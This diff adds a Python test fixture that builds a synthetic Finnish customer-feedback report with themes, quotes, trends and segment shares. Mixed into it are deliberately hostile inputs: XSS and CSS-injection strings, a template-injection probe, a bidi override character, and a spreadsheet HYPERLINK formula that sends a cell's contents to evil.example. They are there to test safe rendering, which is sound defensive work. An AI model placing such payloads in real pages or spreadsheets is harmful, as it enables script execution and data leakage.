@@ -1,0 +1,336 @@
+"""A report as a Finnish mid-size company would have it, with the ugliest of what customers write among it."""
+
+from __future__ import annotations
+
+import datetime as dt
+import math
+
+from pipeline.documents import content_id
+from pipeline.report.contract import (
+    Change,
+    Coverage,
+    FailedSource,
+    Interval,
+    Quote,
+    RankedTheme,
+    RatingContrast,
+    RejectedRow,
+    Report,
+    RunFacts,
+    Score,
+    SegmentShare,
+    SourceSummary,
+    TrendPoint,
+    Window,
+)
+
+RESPONDENTS = 412
+LONG = "Tilasin marraskuussa keittiön kalusteet ja siitä alkoi kolmen kuukauden odotus. " * 38
+HOSTILE = (
+    "<script>alert('xss')</script><img src=x onerror=alert(1)> toimitus myöhässä",
+    '=HYPERLINK("http://evil.example/?"&A1;"Klikkaa")',
+    "\u202eoikealta vasemmalle\u202c ja مرحبا بالعالم",
+    "Ihan 👍🏽👨‍👩‍👧 mutta $x^2$ maksoi 30 $ enemmän {{ 7*7 }} {% raw %}",
+    "Lentokonesuihkuturbiinimoottoriapumekaanikkoaliupseerioppilas" * 4,
+    LONG,
+    "</style></svg><style>*{display:none}</style>",
+)
+
+# label, words, respondents of 412, interviewees among them, quotes
+THEMES: tuple[tuple[str, str, int, int, tuple[str, ...]], ...] = (
+    (
+        "Toimitusvarmuus",
+        "toimitus myöhästyä luvata aika odottaa tilaus",
+        96,
+        3,
+        (
+            "Toimitus myöhästyi kaksi viikkoa, eikä kukaan ilmoittanut mitään.",
+            "Luvattu päivä meni ohi ja sain tietää vasta, kun soitin itse numeroon [PUHELIN].",
+            "Meillä seisoi asennusporukka tyhjän panttina, kun ovet eivät tulleetkaan.",
+            "Nykyään tavara tulee silloin kun luvataan, siitä iso kiitos.",
+            "ihan ok mut se toimitusaika on joka kerta eri ku mitä netis lukee",
+        ),
+    ),
+    (
+        "Kuulluksi tuleminen",
+        "kuunnella asiakas vastata ymmärtää palaute",
+        71,
+        2,
+        (
+            "Tuntui, ettei kukaan oikeasti kuunnellut, mitä minulla oli asiaa.",
+            "Kerroin saman asian neljälle eri ihmiselle.",
+            "Ensimmäistä kertaa minulle soitettiin takaisin ja kysyttiin, miten meni.",
+        ),
+    ),
+    (
+        "Puhelinpalvelun jonotus",
+        "jonottaa puhelin linja vastata tunti",
+        64,
+        0,
+        ("Jonotin 47 minuuttia ja linja katkesi.", *HOSTILE[:3]),
+    ),
+    ("Henkilökunnan ystävällisyys", "ystävällinen palvelu myyjä auttaa hymy", 61, 1, HOSTILE[3:]),
+    (
+        "Opasteet ja kyltit",
+        "opaste kyltti löytää ovi parkkipaikka",
+        44,
+        1,
+        ("Noutopiste oli tosi huonosti merkitty, kiersin rakennuksen kahteen kertaan.",),
+    ),
+    (
+        "Laskutus",
+        "lasku eräpäivä maksaa laskutuslisä hyvitys",
+        39,
+        1,
+        ("Laskulla oli asennus, jota ei koskaan tehty.",),
+    ),
+    (
+        "Verkkokaupan haku ja suodattimet",
+        "verkkokauppa haku tuote sivusto kori",
+        35,
+        0,
+        ("Haku ei löydä tuotetta edes tuotenumerolla.",),
+    ),
+    ("Asennuksen laatu", "asennus asentaja jälki ruuvi siisti", 31, 2, ("Asentajat siivosivat jälkensä, hienoa!",)),
+    ("Hinta", "hinta kallis tarjous alennus halpa", 27, 0, ("Hinnat nousseet ihan hulluna.",)),
+    ("Huollon saatavuus", "huolto varaosa aika varata korjaus", 22, 1, ("Huoltoaikaa ei saanut ennen joulua.",)),
+    ("Pysäköinti", "pysäköinti paikka auto piha ruuhka", 15, 0, ("Parkkipaikat aina täynnä lauantaisin.",)),
+    ("Pakkausmateriaalit", "pakkaus muovi jäte pahvi kierrätys", 11, 0, ("Muovia aivan liikaa.",)),
+    (
+        "Liikkeiden aukioloajat sunnuntaisin ja arkipyhinä sekä niistä tiedottaminen",
+        "aukiolo sunnuntai auki kiinni",
+        8,
+        0,
+        ("Luulin, että olette auki.",),
+    ),
+    ("<b>Muut</b> & $\\alpha$ =1+1", "muu <i>sana</i> $x$", 5, 0, ()),
+)
+
+SEGMENTS = (
+    ("Asiakastyyppi", "Kuluttaja", 301),
+    ("Asiakastyyppi", "Yritys", 111),
+    ("Alue", "Uusimaa", 142),
+    ("Alue", "Pirkanmaa", 96),
+    ("Alue", "Pohjois-Pohjanmaa", 58),
+    ("Alue", "Varsinais-Suomi", 55),
+)
+PERIODS = ((8, 31, 130, True), (9, 30, 141, True), (10, 31, 139, True), (11, 30, 61, False))
+
+
+def interval(part: int, whole: int) -> Interval:
+    """Wilson's interval, so that the factory's numbers are as the real ones will be."""
+    z, share = 1.96, part / whole
+    middle = (share + z * z / (2 * whole)) / (1 + z * z / whole)
+    half = z * math.sqrt(share * (1 - share) / whole + z * z / (4 * whole * whole)) / (1 + z * z / whole)
+    return Interval(estimate=share, low=max(middle - half, 0.0), high=min(middle + half, 1.0))
+
+
+def quote(text: str, n: int = 0, *, interview: bool = False) -> Quote:
+    return Quote(
+        passage_id=content_id("p", text, n),
+        document_id=content_id("d", n),
+        text=text,
+        before="Hei! Olen ollut asiakkaana jo vuosia." if n % 2 else "",
+        after="Toivottavasti tähän tulee parannus." if n % 3 else "",
+        source="2026-10-06_isännöitsijä.docx" if interview else "asiakaskysely_syksy.csv",
+        place="00:12:40" if interview else f"rivi {n + 2}",
+        respondent=content_id("r", n)[:8],
+        kind="interview" if interview else "response",
+        date=None if n == 4 else dt.date(2026, 8, 3) + dt.timedelta(days=9 * n),
+        question="Miten voisimme parantaa palveluamme?" if n == 2 else None,
+        rating=None if interview else (4.0, 7.0, 9.5)[n % 3],
+        strength=0.71,
+    )
+
+
+def change(now: int, before: int, verdict: str, difference: Interval) -> Change:
+    return Change(
+        difference=difference,
+        respondents_now=now,
+        respondents_before=before,
+        answered_now=139,
+        answered_before=141,
+        verdict=verdict,
+    )
+
+
+def _change(at: int) -> Change | None:
+    if at == 3:
+        return None
+    if at in {0, 4}:
+        return change(42, 24, "grows", Interval(estimate=0.132, low=0.031, high=0.229))
+    if at == 5:
+        return change(8, 22, "shrinks", Interval(estimate=-0.098, low=-0.173, high=-0.021))
+    return change(21, 19, "unclear", Interval(estimate=0.016, low=-0.069, high=0.101))
+
+
+def _rating(at: int) -> RatingContrast | None:
+    if at == 4:
+        return None
+    verdict = "lower" if at in {0, 1, 2} else "higher" if at == 3 else "unclear"
+    gap = {"lower": -2.4, "higher": 1.3, "unclear": -0.2}[verdict]
+    return RatingContrast(
+        mentioning=7.6 + gap,
+        others=7.6,
+        difference=None if at == 12 else Interval(estimate=gap, low=gap - 0.6, high=gap + 0.6),
+        n_mentioning=80 - 5 * at,
+        n_others=300,
+        low=0.0,
+        high=10.0,
+        verdict=verdict,
+    )
+
+
+def _trend(at: int, share: float) -> tuple[TrendPoint, ...]:
+    if at == 8:
+        return ()
+    points = []
+    for n, (month, days, answered, complete) in enumerate(PERIODS):
+        said = round(answered * share * (0.7 + 0.2 * ((n + at) % 4)))
+        nobody = at == 9 and n == 1
+        points.append(
+            TrendPoint(
+                start=dt.date(2026, month, 1),
+                end=dt.date(2026, month, days),
+                complete=complete,
+                respondents=0 if nobody else said,
+                answered=0 if nobody else answered,
+                share=None if nobody else interval(said, answered),
+            )
+        )
+    return tuple(points)
+
+
+def _segments(at: int, share: float) -> tuple[SegmentShare, ...]:
+    if at == 9:
+        return ()
+    cells = []
+    for n, (segment, value, answered) in enumerate(SEGMENTS):
+        said = round(answered * share * (0.6 + 0.25 * ((n + at) % 4)))
+        cells.append(
+            SegmentShare(
+                segment=segment, value=value, respondents=said, answered=answered, share=interval(said, answered)
+            )
+        )
+    return tuple(cells)
+
+
+def theme(at: int) -> RankedTheme:
+    label, words, said, interviewed, quotes = THEMES[at]
+    share, moved, rating = interval(said, RESPONDENTS), _change(at), _rating(at)
+    reach = 100 * share.estimate
+    lower = reach * 0.24 if rating and rating.verdict == "lower" else 0.0
+    growth = 6.6 if moved and moved.verdict == "grows" else 0.0
+    return RankedTheme(
+        rank=at + 1,
+        theme_id=content_id("theme", label),
+        label=label,
+        words=tuple(words.split()),
+        respondents=said,
+        mentions=round(said * 1.4),
+        share=share,
+        survey_respondents=said - interviewed,
+        interview_respondents=interviewed,
+        change=moved,
+        rating=rating,
+        score=Score(total=reach + lower + growth, reach=reach, rating=lower, growth=growth),
+        trend=_trend(at, share.estimate),
+        segments=_segments(at, share.estimate),
+        quotes=tuple(quote(text, n, interview=interviewed > 0 and n == 2) for n, text in enumerate(quotes)),
+    )
+
+
+def run_facts(run_id: str = "20261122T020000-3f9a") -> RunFacts:
+    return RunFacts(
+        run_id=run_id,
+        created_at=dt.datetime(2026, 11, 22, 2, 0, 41, tzinfo=dt.timezone(dt.timedelta(hours=2), "EET")),
+        tool_version="0.1.0",
+        settings_hash="9f2c41d07ab35e8812cd",
+        theme_set_id="5b1f0e9c22aa47d1b3f0",
+        model_revisions={"embedder": "kuulluksi-fi-static@1", "lemmatizer": "simplemma==2.0.0"},
+    )
+
+
+def report(run_id: str = "20261122T020000-3f9a", title: str = "Asiakaspalaute, syksy 2026") -> Report:
+    """The full one: 14 themes, all that can be missing missing somewhere."""
+    return Report(
+        title=title,
+        run=run_facts(run_id),
+        window=Window(start=dt.date(2026, 8, 1), end=dt.date(2026, 11, 14)),
+        compared=Window(start=dt.date(2026, 9, 15), end=dt.date(2026, 10, 14)),
+        recent=Window(start=dt.date(2026, 10, 15), end=dt.date(2026, 11, 14)),
+        coverage=Coverage(
+            respondents=RESPONDENTS,
+            survey_respondents=409,
+            interview_respondents=3,
+            documents=431,
+            passages=1046,
+            assigned=861,
+            unassigned=185,
+            empty_answers=38,
+            other_language={"sv": 11, "en": 2},
+            undated=4,
+            rejected_rows=3,
+            masked={"PUHELIN": 14, "SÄHKÖPOSTI": 9, "HENKILÖTUNNUS": 1, "OSOITE": 6},
+        ),
+        themes=tuple(theme(at) for at in range(len(THEMES))),
+        unassigned_quotes=tuple(quote(text, n) for n, text in enumerate(("Kiitos.", "Kahvi oli hyvää.", *HOSTILE[:2]))),
+        other_language_quotes=(quote("Leveransen kom en vecka för sent, men personalen var trevlig.", 1),),
+        sources=(
+            SourceSummary(
+                source="asiakaskysely_syksy.csv",
+                family="csv",
+                documents=428,
+                passages=770,
+                rejected=3,
+                detected=(
+                    ("Merkistö", "UTF-8"),
+                    ("Erotin", "puolipiste"),
+                    ("Vastaussarakkeet", "Vapaa palaute; Miten voisimme parantaa palveluamme?"),
+                    ("Arvosana", "Suositteluhalukkuus, asteikko 0–10"),
+                ),
+            ),
+            SourceSummary(
+                source="2026-10-06_isännöitsijä.docx",
+                family="docx",
+                documents=1,
+                passages=94,
+                rejected=0,
+                detected=(("Haastattelija", "Haastattelija (38 % puheenvuoroista on kysymyksiä, 21 % sanoista)"),),
+            ),
+            SourceSummary(source="<script>alert(2)</script>.csv", family="csv", documents=2, passages=3, rejected=0),
+        ),
+        rejected=(
+            RejectedRow(source="asiakaskysely_syksy.csv", place="rivi 88", reason="Rivillä on liikaa sarakkeita."),
+            RejectedRow(
+                source="asiakaskysely_syksy.csv", place="rivi 203", reason="Päivämäärää ”31.2.2026” ei ole olemassa."
+            ),
+        ),
+        failed=(FailedSource(source="vanha_aineisto.xlsx", reason="Tiedosto on tyhjä (0 tavua)."),),
+    )
+
+
+def empty_report() -> Report:
+    """All was read, and nothing was said."""
+    return Report(
+        title="Palauteraportti",
+        run=run_facts(),
+        window=None,
+        compared=None,
+        recent=None,
+        coverage=Coverage(
+            respondents=0,
+            survey_respondents=0,
+            interview_respondents=0,
+            documents=0,
+            passages=0,
+            assigned=0,
+            unassigned=0,
+            empty_answers=0,
+            other_language={},
+            undated=0,
+            rejected_rows=0,
+            masked={},
+        ),
+        themes=(),
+    )
